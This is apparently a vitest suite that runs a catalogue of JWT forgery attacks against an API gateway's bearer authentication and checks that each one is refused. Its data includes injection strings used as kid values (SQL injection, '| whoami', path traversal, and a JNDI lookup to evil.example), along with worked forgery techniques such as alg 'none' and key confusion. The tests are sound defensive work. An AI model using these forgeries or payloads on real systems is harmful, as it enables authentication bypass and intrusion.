/**
 * The attack catalogue against JWT bearer authentication, through the whole gateway in workerd. Every case must end
 * in 401 (or 400 for an ambiguous Authorization header) and never reach the origin, which would answer 200 with
 * its echo. Each case starts from a token that is accepted, changed in one way only.
 */
import { exportSPKI } from 'jose';
import { beforeAll, describe, expect, inject, it } from 'vitest';
import type { Echo } from '../../../scripts/demo-origins.ts';
import type { GatewayConfigInput } from '../../../src/config/schema.ts';
import { gatewayFor, problemType } from '../../support/gateway.ts';
import { AuthServerNamespace } from '../../support/auth-server.ts';
import { b64url, claimsAt, hmacToken, rawHmacToken, rawSignedToken, signedToken, testKey, type TestKey } from '../../support/tokens.ts';

const SECRET = 'attack-suite-secret-with-enough-entropy-0123456789';
const [echo] = inject('echoOrigins');
const keyServer = new AuthServerNamespace(inject('authServer'), 'jwt-attacks');
const attackerServer = new AuthServerNamespace(inject('authServer'), 'jwt-attacks-attacker');
const now = () => Math.floor(Date.now() / 1000);

const config: GatewayConfigInput = {
  gateway: {
    auth: {
      issuers: [
        { name: 'local', issuer: 'https://local.test', kind: 'secret', algorithms: ['HS256'], audience: ['api'] },
        {
          name: 'idp',
          issuer: 'https://idp.test',
          kind: 'jwks',
          jwksUrl: keyServer.jwksUrl,
          algorithms: ['RS256', 'ES256'],
          audience: ['api'],
          jwks: { cooldownSeconds: 30 },
        },
        { name: 'other', issuer: 'https://other.test', kind: 'secret', algorithms: ['HS256'], audience: ['api'] },
      ],
    },
  },
  services: [
    {
      name: 'api',
      routes: [{ pathPrefix: '/api' }],
      instances: [{ url: echo! }],
      policies: { auth: { mode: 'jwt', issuers: ['local', 'idp'] } },
    },
  ],
};

const send = gatewayFor(config, { JWT_SECRET: SECRET });
let rsa: TestKey;
let ec: TestKey;

beforeAll(async () => {
  [rsa, ec] = await Promise.all([testKey('RS256', 'rsa-1'), testKey('ES256', 'ec-1')]);
  await keyServer.control({ keys: [rsa.publicJwk, ec.publicJwk], jwks: 'up' });
});

const local = (overrides: Record<string, unknown> = {}) => ({ ...claimsAt(now()), iss: 'https://local.test', aud: 'api', ...overrides });
const idp = (overrides: Record<string, unknown> = {}) => ({ ...claimsAt(now()), iss: 'https://idp.test', aud: 'api', ...overrides });
const validLocal = () => hmacToken(local(), SECRET);
const HEADER = '{"alg":"HS256","typ":"JWT"}';

function withBearer(token: string): RequestInit {
  return { headers: { authorization: `Bearer ${token}` } };
}

async function expectRefused(token: string, description = 'The access token is invalid'): Promise<void> {
  const response = await send('/api/x', withBearer(token));
  expect(response.status).toBe(401);
  expect(await problemType(response)).toBe('unauthorized');
  expect(response.headers.get('www-authenticate')).toBe(`Bearer realm="edge-gateway", error="invalid_token", error_description="${description}"`);
}

describe('the tokens the attacks start from are accepted', () => {
  it('accepts a valid HS256 token from the local issuer and tells the origin who called', async () => {
    const response = await send('/api/x', withBearer(await validLocal()));
    expect(response.status).toBe(200);
    const echoed = (await response.json()) as Echo;
    expect(echoed.headers['x-user-id']).toBe('alice');
    expect(echoed.headers['x-consumer-id']).toBe('local:alice');
  });

  it('accepts valid RS256 and ES256 tokens from the JWKS issuer', async () => {
    expect((await send('/api/x', withBearer(await signedToken(idp(), rsa)))).status).toBe(200);
    expect((await send('/api/x', withBearer(await signedToken(idp(), ec)))).status).toBe(200);
  });

  it('accepts a token built byte by byte the same way (so the hostile variants below differ only where they say)', async () => {
    expect((await send('/api/x', withBearer(await rawHmacToken(HEADER, JSON.stringify(local()), SECRET)))).status).toBe(200);
  });
});

describe('alg "none" and algorithm games', () => {
  it.each(['none', 'None', 'NONE', 'nOnE', 'none '])('refuses alg %j, unsigned', async (alg) => {
    await expectRefused(`${b64url(JSON.stringify({ alg, typ: 'JWT' }))}.${b64url(JSON.stringify(local()))}.`);
  });

  it.each(['none', 'None', 'NONE'])('refuses alg %j even with a valid HMAC signature appended', async (alg) => {
    await expectRefused(await rawHmacToken(JSON.stringify({ alg }), JSON.stringify(local()), SECRET));
  });

  it('refuses an algorithm the issuer does not allow (HS512 where only HS256 is)', async () => {
    await expectRefused(await rawHmacToken('{"alg":"HS512"}', JSON.stringify(local()), SECRET, 'HS512'));
  });

  it('refuses HS/RS key confusion: an HS256 token for the JWKS issuer signed with its public RSA key (PEM)', async () => {
    const pem = await exportSPKI(await crypto.subtle.importKey('jwk', rsa.publicJwk as JsonWebKey, { name: 'RSASSA-PKCS1-v1_5', hash: 'SHA-256' }, true, ['verify']));
    await expectRefused(await rawHmacToken('{"alg":"HS256","kid":"rsa-1"}', JSON.stringify(idp()), pem));
  });

  it('refuses HS/RS key confusion: an HS256 token for the JWKS issuer signed with its public JWK as the secret', async () => {
    await expectRefused(await rawHmacToken('{"alg":"HS256","kid":"rsa-1"}', JSON.stringify(idp()), JSON.stringify(rsa.publicJwk)));
  });

  it('refuses an RS256 token claiming the HMAC issuer, even signed with a key the JWKS publishes', async () => {
    await expectRefused(await rawSignedToken('{"alg":"RS256","kid":"rsa-1"}', JSON.stringify(local()), rsa.privateKey, 'RS256'));
  });

  it('refuses an unknown algorithm name', async () => {
    await expectRefused(await rawHmacToken('{"alg":"HS257"}', JSON.stringify(local()), SECRET));
  });
});

describe('duplicated names', () => {
  it('refuses a header that names alg twice, last value valid (jose alone would accept it)', async () => {
    await expectRefused(await rawHmacToken('{"alg":"none","alg":"HS256"}', JSON.stringify(local()), SECRET));
  });

  it('refuses a header that names alg twice, first value valid', async () => {
    await expectRefused(await rawHmacToken('{"alg":"HS256","alg":"none"}', JSON.stringify(local()), SECRET));
  });

  it('refuses a duplicate hidden by an escape ("alg" and "\\u0061lg")', async () => {
    await expectRefused(await rawHmacToken('{"alg":"HS256","\\u0061lg":"HS256"}', JSON.stringify(local()), SECRET));
  });

  it('refuses a payload that names sub twice', async () => {
    const payload = JSON.stringify(local()).replace('"sub":"alice"', '"sub":"alice","sub":"admin"');
    await expectRefused(await rawHmacToken(HEADER, payload, SECRET));
  });

  it('refuses a payload that names exp twice', async () => {
    const payload = JSON.stringify(local()).replace(/"exp":\d+/, `"exp":${now() - 10},"exp":${now() + 600}`);
    await expectRefused(await rawHmacToken(HEADER, payload, SECRET));
  });
});

describe('header parameters', () => {
  it('refuses crit naming a claim', async () => {
    await expectRefused(await rawHmacToken(`{"alg":"HS256","crit":["exp"],"exp":${now() + 600}}`, JSON.stringify(local()), SECRET));
  });

  it('refuses crit naming b64 (unencoded payload)', async () => {
    await expectRefused(await rawHmacToken('{"alg":"HS256","crit":["b64"],"b64":false}', JSON.stringify(local()), SECRET));
  });

  it('refuses an empty crit', async () => {
    await expectRefused(await rawHmacToken('{"alg":"HS256","crit":[]}', JSON.stringify(local()), SECRET));
  });

  it('refuses a typ that is not a JWT', async () => {
    await expectRefused(await rawHmacToken('{"alg":"HS256","typ":"JWE"}', JSON.stringify(local()), SECRET));
  });

  it('refuses an embedded jwk: the attacker\'s own key is never used', async () => {
    const attacker = await testKey('RS256', 'attacker');
    const header = JSON.stringify({ alg: 'RS256', jwk: attacker.publicJwk });
    await expectRefused(await rawSignedToken(header, JSON.stringify(idp()), attacker.privateKey, 'RS256'));
  });

  it('refuses jku pointing at the attacker\'s key set, and never fetches it', async () => {
    const attacker = await testKey('RS256', 'attacker');
    await attackerServer.control({ keys: [attacker.publicJwk] });
    const header = JSON.stringify({ alg: 'RS256', kid: 'attacker', jku: attackerServer.jwksUrl });
    await expectRefused(await rawSignedToken(header, JSON.stringify(idp()), attacker.privateKey, 'RS256'));
    expect((await attackerServer.stats()).jwksRequests).toBe(0);
  });

  it('refuses x5u pointing at the attacker, and never fetches it', async () => {
    const attacker = await testKey('RS256', 'attacker');
    const header = JSON.stringify({ alg: 'RS256', kid: 'rsa-1', x5u: `${attackerServer.base}/cert.pem` });
    await expectRefused(await rawSignedToken(header, JSON.stringify(idp()), attacker.privateKey, 'RS256'));
    expect((await attackerServer.stats()).jwksRequests).toBe(0);
  });

  it('refuses an embedded x5c chain', async () => {
    await expectRefused(await rawSignedToken('{"alg":"RS256","kid":"rsa-1","x5c":["MIIB"]}', JSON.stringify(idp()), rsa.privateKey, 'RS256'));
  });
});

describe('kid', () => {
  it('refuses an unknown kid and asks the key server at most once per cooldown', async () => {
    const stranger = await testKey('RS256', 'unknown-kid');
    const before = (await keyServer.stats()).jwksRequests;
    for (let i = 0; i < 5; i++) await expectRefused(await signedToken(idp(), stranger));
    expect((await keyServer.stats()).jwksRequests - before).toBeLessThanOrEqual(1);
  });

  it.each([
    '../../../../../../dev/null',
    "' OR '1'='1",
    '"; DROP TABLE keys; --',
    '| whoami',
    '${jndi:ldap://evil.example/a}',
    '*',
    'rsa-1\' OR kid LIKE \'%',
    'a'.repeat(257),
  ])('refuses kid injection %j (signed with an empty HMAC secret)', async (kid) => {
    // HMAC pads keys with zeros to the block size, so 64 zero bytes sign exactly as an empty key (what reading
    // /dev/null or an empty query result would give) does; workerd refuses to import a zero-length key.
    const emptyKey = new Uint8Array(64);
    await expectRefused(await rawHmacToken(JSON.stringify({ alg: 'HS256', kid }), JSON.stringify(local()), emptyKey));
    await expectRefused(await rawSignedToken(JSON.stringify({ alg: 'RS256', kid }), JSON.stringify(idp()), (await testKey('RS256', 'x')).privateKey, 'RS256'));
  });

  it.each(['\u0000', 'a\nb', 'a\u007fb', ''])('refuses a kid with control characters or empty (%j)', async (kid) => {
    await expectRefused(await rawHmacToken(JSON.stringify({ alg: 'HS256', kid }), JSON.stringify(local()), SECRET));
  });

  it('refuses a non-string kid', async () => {
    await expectRefused(await rawHmacToken('{"alg":"HS256","kid":{"$ne":null}}', JSON.stringify(local()), SECRET));
  });
});

describe('time claims', () => {
  it('refuses an expired token and says so', async () => {
    await expectRefused(await hmacToken(local({ iat: now() - 3600, exp: now() - 120 }), SECRET), 'The access token expired');
  });

  it('accepts a token expired less than the clock skew (60 s) ago', async () => {
    expect((await send('/api/x', withBearer(await hmacToken(local({ exp: now() - 30 }), SECRET)))).status).toBe(200);
  });

  it('refuses nbf in the future beyond the skew', async () => {
    await expectRefused(await hmacToken(local({ nbf: now() + 300 }), SECRET), 'The access token is not valid yet');
  });

  it('refuses iat in the future beyond the skew (jose alone would accept it)', async () => {
    await expectRefused(await hmacToken(local({ iat: now() + 300 }), SECRET));
  });

  it('refuses a token without exp (jose alone would accept it)', async () => {
    const { exp: _, ...withoutExp } = local();
    await expectRefused(await hmacToken(withoutExp, SECRET));
  });

  it.each(['1e400', '-1e400', '"9999999999"', 'null', '1e20', '-5', 'true'])('refuses exp: %s (jose reads 1e400 as Infinity and accepts it)', async (exp) => {
    const payload = JSON.stringify(local()).replace(/"exp":\d+/, `"exp":${exp}`);
    await expectRefused(await rawHmacToken(HEADER, payload, SECRET));
  });

  it.each(['1e400', 'NaN'])('refuses nbf or iat that is not a finite number (%s)', async (value) => {
    await expectRefused(await rawHmacToken(HEADER, JSON.stringify(local()).replace(/"iat":\d+/, `"iat":${value}`), SECRET));
  });
});

describe('issuer, audience, subject', () => {
  it('refuses an unknown iss', async () => {
    await expectRefused(await hmacToken(local({ iss: 'https://evil.test' }), SECRET));
  });

  it('refuses a known issuer the service does not accept', async () => {
    await expectRefused(await hmacToken(local({ iss: 'https://other.test' }), SECRET));
  });

  it('refuses a wrong aud (jose alone accepts any aud when none is configured)', async () => {
    await expectRefused(await hmacToken(local({ aud: 'another-api' }), SECRET));
  });

  it('refuses a token without aud', async () => {
    const { aud: _, ...withoutAud } = local();
    await expectRefused(await hmacToken(withoutAud, SECRET));
  });

  it('refuses a token without sub, or with a sub that is not a string', async () => {
    const { sub: _, ...withoutSub } = local();
    await expectRefused(await hmacToken(withoutSub, SECRET));
    await expectRefused(await hmacToken(local({ sub: 42 }), SECRET));
  });
});

describe('integrity and encoding', () => {
  it('refuses a tampered payload (sub changed, signature kept)', async () => {
    const [header, , signature] = (await validLocal()).split('.');
    await expectRefused(`${header}.${b64url(JSON.stringify(local({ sub: 'admin' })))}.${signature}`);
  });

  it('refuses a signature made with another secret', async () => {
    await expectRefused(await hmacToken(local(), 'not-the-secret-but-just-as-long-0123456789'));
  });

  it('refuses an empty signature', async () => {
    const [header, payload] = (await validLocal()).split('.');
    await expectRefused(`${header}.${payload}.`);
  });

  it.each([
    ['a trailing "="', (t: string) => `${t}=`],
    ['a trailing "=="', (t: string) => `${t}==`],
    ['standard base64 "+" and "/"', (t: string) => t.replaceAll('-', '+').replaceAll('_', '/').replace(/.$/, '/')],
  ])('refuses broken base64url: %s', async (_label, mangle) => {
    await expectRefused(mangle(await validLocal()));
  });

  // Characters that cannot be in a token68 at all make the Authorization header itself malformed: 400.
  it.each([
    ['"=" inside the header', (t: string) => t.replace('.', '=.')],
    ['a space in the payload', (t: string) => t.replace('.', '. ')],
    ['a "!" in the signature', (t: string) => `${t.slice(0, -1)}!`],
  ])('refuses broken base64url with 400 malformed-credentials: %s', async (_label, mangle) => {
    const response = await send('/api/x', withBearer(mangle(await validLocal())));
    expect(response.status).toBe(400);
    expect(await problemType(response)).toBe('malformed-credentials');
  });

  it('refuses a signature whose last character carries non-zero unused bits (a second encoding of the same bytes)', async () => {
    const token = await validLocal();
    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
    const last = alphabet.indexOf(token.at(-1)!);
    // HS256 signatures are 32 bytes: 43 characters, the last carrying 4 bits and 2 unused ones.
    await expectRefused(`${token.slice(0, -1)}${alphabet[last | 1]}`);
  });

  it.each([
    ['two segments', (t: string) => t.split('.').slice(0, 2).join('.')],
    ['four segments', (t: string) => `${t}.${t.split('.')[2]}`],
    ['five segments (JWE shape)', (t: string) => `${t}.AAAA.BBBB`],
    ['an empty header', (t: string) => t.replace(/^[^.]+/, '')],
    ['a header that is not JSON', (t: string) => t.replace(/^[^.]+/, b64url('alg:HS256'))],
    ['a header that is a JSON array', (t: string) => t.replace(/^[^.]+/, b64url('["HS256"]'))],
    ['a payload that is a JSON string', (t: string) => t.replace(/\.[^.]+\./, `.${b64url('"alice"')}.`)],
    ['a header with a byte order mark', (t: string) => t.replace(/^[^.]+/, b64url(`\ufeff${HEADER}`))],
    ['a header that is not UTF-8', (t: string) => t.replace(/^[^.]+/, b64url(new Uint8Array([0x7b, 0xff, 0x7d])))],
  ])('refuses %s', async (_label, mangle) => {
    await expectRefused(mangle(await validLocal()));
  });

  it('refuses deeply nested JSON in the payload without trouble', async () => {
    const payload = JSON.stringify(local()).replace(/}$/, `,"x":${'['.repeat(5000)}${']'.repeat(5000)}}`);
    await expectRefused(await rawHmacToken(HEADER, payload, SECRET));
  });

  it('refuses an oversized token (over gateway.auth.maxTokenBytes) before parsing it', async () => {
    await expectRefused(await hmacToken(local({ padding: 'x'.repeat(9000) }), SECRET));
  });
});

describe('the Authorization header', () => {
  it('answers a request without credentials with 401 and a bare Bearer challenge', async () => {
    const response = await send('/api/x');
    expect(response.status).toBe(401);
    expect(response.headers.get('www-authenticate')).toBe('Bearer realm="edge-gateway"');
  });

  it('answers the Basic scheme with 401 and the Bearer challenge', async () => {
    const response = await send('/api/x', { headers: { authorization: `Basic ${btoa('alice:secret')}` } });
    expect(response.status).toBe(401);
    expect(response.headers.get('www-authenticate')).toBe('Bearer realm="edge-gateway"');
  });

  it('accepts the scheme in any case, as RFC 9110 §11.1 requires, and still verifies the token', async () => {
    expect((await send('/api/x', { headers: { authorization: `bearer ${await validLocal()}` } })).status).toBe(200);
    expect((await send('/api/x', { headers: { authorization: `BEARER ${await validLocal()}` } })).status).toBe(200);
    const forged = await hmacToken(local(), 'wrong-secret-wrong-secret-wrong-secret');
    expect((await send('/api/x', { headers: { authorization: `bearer ${forged}` } })).status).toBe(401);
  });

  it('refuses two Authorization headers with 400 invalid_request, even when both carry valid tokens', async () => {
    const headers = new Headers();
    headers.append('authorization', `Bearer ${await validLocal()}`);
    headers.append('authorization', `Bearer ${await validLocal()}`);
    const response = await send('/api/x', { headers });
    expect(response.status).toBe(400);
    expect(await problemType(response)).toBe('malformed-credentials');
    expect(response.headers.get('www-authenticate')).toBe('Bearer realm="edge-gateway", error="invalid_request"');
  });

  it('refuses a bearer token together with an X-API-Key header', async () => {
    const response = await send('/api/x', { headers: { authorization: `Bearer ${await validLocal()}`, 'x-api-key': 'egw_x' } });
    expect(response.status).toBe(400);
  });

  it.each(['Bearer', 'Bearer a b', 'Bearer\ttoken', 'Bearer "quoted"'])('refuses the malformed value %j with 400', async (value) => {
    const response = await send('/api/x', { headers: { authorization: value } });
    expect(response.status).toBe(400);
  });
});
